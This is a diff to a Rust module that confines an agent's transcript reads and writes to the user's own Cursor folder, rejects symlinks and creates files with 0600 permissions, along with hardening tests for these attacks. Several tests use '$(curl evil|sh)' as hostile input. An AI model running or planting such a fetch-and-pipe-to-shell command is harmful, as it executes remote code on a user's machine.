@@ -5,14 +5,17 @@
 //! mid-turn: rows would repeat or vanish), and a past chat is read back for the model.
 //!
 //! The line building and reading are pure; [`append`] and [`read`] are the thin IO, each one
-//! blocking call off the runtime, so a write is whole or absent.
+//! blocking call off the runtime, so a write is whole or absent. Both touch only this user's
+//! own transcripts folders, never following a link ([`TranscriptsDir`]): the folder is named
+//! by the client, and any local process can be a client.
 
 use std::io::{Read, Seek, SeekFrom, Write};
-use std::path::{Path, PathBuf};
+use std::path::Path;
 
 use serde_json::{json, Value};
 
 use crate::agent::state::StepRecord;
+use crate::agent::user_files::TranscriptsDir;
 
 /// A transcript file is not grown past this; a turn that would cross it is not written.
 pub const MAX_FILE_BYTES: u64 = 8 * 1024 * 1024;
@@ -68,20 +71,15 @@ fn text_item(text: &str) -> Value {
     json!({ "type": "text", "text": crate::agent::context::cap(text, MAX_TEXT_CHARS) })
 }
 
-/// `<folder>/<conversation>/<conversation>.jsonl`, or `None` when the conversation id could
-/// name anything but one file in one folder under `folder`.
-pub fn path_for(folder: &str, conversation: &str) -> Option<PathBuf> {
+/// `<conversation>.jsonl`, or `None` when the conversation id could name anything but one file
+/// in one folder.
+fn file_name(conversation: &str) -> Option<String> {
     let safe = !conversation.is_empty()
         && conversation.len() <= 128
         && conversation
             .chars()
-            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
-        && !folder.is_empty();
-    safe.then(|| {
-        Path::new(folder)
-            .join(conversation)
-            .join(format!("{conversation}.jsonl"))
-    })
+            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_');
+    safe.then(|| format!("{conversation}.jsonl"))
 }
 
 /// What a transcript says, for the model: `User:` / `Assistant:` paragraphs, tool calls named,
@@ -129,53 +127,40 @@ pub fn render(jsonl: &str) -> String {
     format!("[earlier part left out]\n{tail}")
 }
 
-/// Whether `folder` is a transcripts folder of this machine: it exists, or it is where Cursor
-/// keeps a project's transcripts (`<home>/.cursor/projects/<project>/agent-transcripts`) under
-/// a home that exists here. Clients that do not write status lines (the SDK) never create it.
-fn on_this_machine(folder: &Path) -> bool {
-    use std::path::Component;
-    if folder.is_dir() {
-        return true;
+/// The client-named `folder` as this user's transcripts folder, or `None` (with a log line)
+/// when it is anywhere else.
+fn ours(home: &Path, folder: &str) -> Option<TranscriptsDir> {
+    match TranscriptsDir::resolve(home, folder) {
+        Ok(dir) => Some(dir),
+        Err(e) => {
+            tracing::warn!("transcripts are neither written nor read there: {e}");
+            None
+        }
     }
-    let plain = folder.is_absolute()
-        && folder.components().all(|c| {
-            matches!(
-                c,
-                Component::RootDir | Component::Prefix(_) | Component::Normal(_)
-            )
-        });
-    let names: Vec<_> = folder.iter().rev().take(4).collect();
-    let layout = names.len() == 4
-        && names[0] == "agent-transcripts"
-        && names[2] == "projects"
-        && names[3] == ".cursor";
-    let home = folder.ancestors().nth(4);
-    plain && layout && home.is_some_and(Path::is_dir)
 }
 
-/// Appends `lines` to the conversation's transcript when `folder` is on this machine
-/// ([`on_this_machine`]). `Ok(false)`: not written (no such folder here, an unusable id,
-/// nothing to write, or the file would grow past [`MAX_FILE_BYTES`]).
-pub async fn append(folder: &str, conversation: &str, lines: String) -> std::io::Result<bool> {
-    let Some(path) = path_for(folder, conversation) else {
+/// Appends `lines` to the conversation's transcript when `folder` is this user's
+/// (`<home>/.cursor/projects/<project>/agent-transcripts`, see [`TranscriptsDir`]).
+/// `Ok(false)`: not written (another folder, an unusable id, nothing to write, or the file
+/// would grow past [`MAX_FILE_BYTES`]); an error: a link or a file not ours in the way.
+pub async fn append(
+    home: &Path,
+    folder: &str,
+    conversation: &str,
+    lines: String,
+) -> std::io::Result<bool> {
+    let (Some(file), false) = (file_name(conversation), lines.is_empty()) else {
         return Ok(false);
     };
-    if lines.is_empty() {
-        return Ok(false);
-    }
-    let root = PathBuf::from(folder);
+    let home = home.to_path_buf();
+    let folder = folder.to_string();
+    let conversation = conversation.to_string();
     // One blocking task, one write: it finishes even if the turn's task is dropped meanwhile.
     tokio::task::spawn_blocking(move || {
-        if !on_this_machine(&root) {
+        let Some(dir) = ours(&home, &folder) else {
             return Ok(false);
-        }
-        if let Some(dir) = path.parent() {
-            std::fs::create_dir_all(dir)?;
-        }
-        let mut file = std::fs::OpenOptions::new()
-            .create(true)
-            .append(true)
-            .open(&path)?;
+        };
+        let mut file = dir.open_append(&conversation, &file)?;
         let len = file.metadata()?.len();
         if len.saturating_add(lines.len() as u64) > MAX_FILE_BYTES {
             return Ok(false);
@@ -188,11 +173,19 @@ pub async fn append(folder: &str, conversation: &str, lines: String) -> std::io:
 }
 
 /// The transcript of `conversation` rendered for the model ([`render`]), if there is one
-/// with messages in it.
-pub async fn read(folder: &str, conversation: &str) -> Option<String> {
-    let path = path_for(folder, conversation)?;
+/// with messages in it, in this user's transcripts folder.
+pub async fn read(home: &Path, folder: &str, conversation: &str) -> Option<String> {
+    let file = file_name(conversation)?;
+    let (home, folder, conversation) = (
+        home.to_path_buf(),
+        folder.to_string(),
+        conversation.to_string(),
+    );
     let text = tokio::task::spawn_blocking(move || -> std::io::Result<String> {
-        let mut file = std::fs::File::open(&path)?;
+        let Some(dir) = ours(&home, &folder) else {
+            return Ok(String::new());
+        };
+        let mut file = dir.open_read(&conversation, &file)?;
         let len = file.metadata()?.len();
         if len > MAX_READ_BYTES {
             file.seek(SeekFrom::Start(len - MAX_READ_BYTES))?;
@@ -278,15 +271,11 @@ mod tests {
     }
 
     #[test]
-    fn paths_stay_inside_the_folder() {
-        assert_eq!(
-            path_for("/t", "conv-1"),
-            Some(PathBuf::from("/t/conv-1/conv-1.jsonl"))
-        );
+    fn file_names_stay_inside_the_folder() {
+        assert_eq!(file_name("conv-1").as_deref(), Some("conv-1.jsonl"));
         for bad in ["", "..", "a/b", "../x", "a\\b", "a.b"] {
-            assert_eq!(path_for("/t", bad), None, "{bad}");
+            assert_eq!(file_name(bad), None, "{bad}");
         }
-        assert_eq!(path_for("", "conv"), None);
     }
 
     #[test]
@@ -306,61 +295,117 @@ mod tests {
         assert!(r.chars().count() <= MAX_PAST_CHAT_CHARS + 30);
     }
 
+    /// A home with Cursor's layout: the folder a client names, and the folder on disk.
+    fn home() -> (tempfile::TempDir, String, std::path::PathBuf) {
+        let home = tempfile::tempdir().expect("tempdir");
+        let root = home.path().join(".cursor/projects/ws/agent-transcripts");
+        let folder = root.to_str().expect("utf-8").to_string();
+        (home, folder, root)
+    }
+
     #[tokio::test]
-    async fn append_keeps_existing_lines_and_needs_the_folder() {
-        let dir = tempfile::tempdir().expect("tempdir");
-        let folder = dir.path().to_str().expect("utf-8").to_string();
-        let file = dir.path().join("c1/c1.jsonl");
+    async fn append_keeps_existing_lines_and_reads_back() {
+        let (home, folder, root) = home();
+        let file = root.join("c1/c1.jsonl");
         std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
         std::fs::write(&file, "{\"cursor\":\"status\"}\n").expect("write");
-        assert!(append(&folder, "c1", turn_lines("hi", &[]))
+        assert!(append(home.path(), &folder, "c1", turn_lines("hi", &[]))
             .await
             .expect("io"));
         let text = std::fs::read_to_string(&file).expect("read");
         assert!(text.starts_with("{\"cursor\":\"status\"}\n"));
         assert_eq!(text.lines().count(), 2);
-        assert_eq!(read(&folder, "c1").await.as_deref(), Some("User: hi"));
-
-        let missing = dir.path().join("not-here");
-        let missing = missing.to_str().expect("utf-8");
-        assert!(!append(missing, "c1", turn_lines("hi", &[]))
-            .await
-            .expect("io"));
-        assert!(!Path::new(missing).exists(), "no folder is created");
-        assert_eq!(read(missing, "c1").await, None);
+        assert_eq!(
+            read(home.path(), &folder, "c1").await.as_deref(),
+            Some("User: hi")
+        );
     }
 
-    #[test]
-    fn cursors_own_transcripts_folder_under_a_home_here_counts_as_this_machines() {
-        let home = tempfile::tempdir().expect("tempdir");
-        let folder = home
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn a_new_transcript_is_created_0600_under_cursors_layout() {
+        use std::os::unix::fs::PermissionsExt;
+        let (home, folder, root) = home();
+        assert!(append(home.path(), &folder, "c1", turn_lines("hi", &[]))
+            .await
+            .expect("io"));
+        let meta = std::fs::metadata(root.join("c1/c1.jsonl")).expect("written");
+        assert_eq!(meta.permissions().mode() & 0o777, 0o600);
+    }
+
+    /// Attack: a folder elsewhere (another user's home, a shared tmp) is ignored: nothing is
+    /// created or written there, and nothing is read from it.
+    #[tokio::test]
+    async fn a_folder_outside_this_users_projects_is_ignored() {
+        let (home, _, _) = home();
+        let elsewhere = tempfile::tempdir().expect("tempdir");
+        std::fs::create_dir_all(elsewhere.path().join("c1")).expect("mkdir");
+        let planted = elsewhere.path().join("c1/c1.jsonl");
+        std::fs::write(&planted, turn_lines("planted", &[])).expect("write");
+        let folder = elsewhere.path().to_str().expect("utf-8");
+        assert!(!append(
+            home.path(),
+            folder,
+            "c1",
+            turn_lines("$(curl evil|sh)", &[])
+        )
+        .await
+        .expect("io"));
+        assert_eq!(
+            std::fs::read_to_string(&planted).expect("read"),
+            turn_lines("planted", &[])
+        );
+        assert_eq!(read(home.path(), folder, "c1").await, None);
+        let theirs = elsewhere
             .path()
-            .join(".cursor/projects/tmp-ws/agent-transcripts");
+            .join(".cursor/projects/ws/agent-transcripts");
+        let theirs = theirs.to_str().expect("utf-8");
+        assert!(!append(home.path(), theirs, "c2", turn_lines("hi", &[]))
+            .await
+            .expect("io"));
         assert!(
-            on_this_machine(&folder),
-            "Cursor's layout under an existing home"
+            !elsewhere.path().join(".cursor").exists(),
+            "nothing created"
         );
-        let elsewhere = Path::new("/no/such/home/.cursor/projects/ws/agent-transcripts");
-        assert!(
-            !on_this_machine(elsewhere),
-            "the home is not on this machine"
+    }
+
+    /// Attack: `<id>.jsonl` linked to a victim file, and a linked `<id>` folder.
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn links_in_the_transcripts_folder_leave_the_victim_unchanged() {
+        use std::os::unix::fs::symlink;
+        let (home, folder, root) = home();
+        let victims = tempfile::tempdir().expect("tempdir");
+        let victim = victims.path().join("c.jsonl");
+        std::fs::write(&victim, "export PATH=/usr/bin\n").expect("write");
+        std::fs::create_dir_all(root.join("c")).expect("mkdir");
+        symlink(&victim, root.join("c/c.jsonl")).expect("symlink");
+        symlink(victims.path(), root.join("d")).expect("symlink");
+        let d_victim = victims.path().join("d.jsonl");
+        std::fs::write(&d_victim, "keep\n").expect("write");
+        for id in ["c", "d"] {
+            let result = append(home.path(), &folder, id, turn_lines("$(curl evil|sh)", &[])).await;
+            assert!(!matches!(result, Ok(true)), "{id}: {result:?}");
+            assert_eq!(read(home.path(), &folder, id).await, None, "{id}");
+        }
+        assert_eq!(
+            std::fs::read_to_string(&victim).expect("read"),
+            "export PATH=/usr/bin\n"
         );
-        let other = home.path().join("notes/agent-transcripts");
-        assert!(!on_this_machine(&other), "not Cursor's layout");
-        let sneaky = home.path().join(".cursor/projects/../agent-transcripts");
-        assert!(!on_this_machine(&sneaky), "no `..` in the path");
+        assert_eq!(std::fs::read_to_string(&d_victim).expect("read"), "keep\n");
     }
 
     #[tokio::test]
     async fn the_file_is_bounded() {
-        let dir = tempfile::tempdir().expect("tempdir");
-        let folder = dir.path().to_str().expect("utf-8").to_string();
-        let file = dir.path().join("c2/c2.jsonl");
+        let (home, folder, root) = home();
+        let file = root.join("c2/c2.jsonl");
         std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
         std::fs::write(&file, vec![b' '; MAX_FILE_BYTES as usize - 10]).expect("write");
-        assert!(!append(&folder, "c2", turn_lines("hello there", &[]))
-            .await
-            .expect("io"));
+        assert!(
+            !append(home.path(), &folder, "c2", turn_lines("hello there", &[]))
+                .await
+                .expect("io")
+        );
         assert_eq!(
             std::fs::metadata(&file).expect("meta").len(),
             MAX_FILE_BYTES - 10
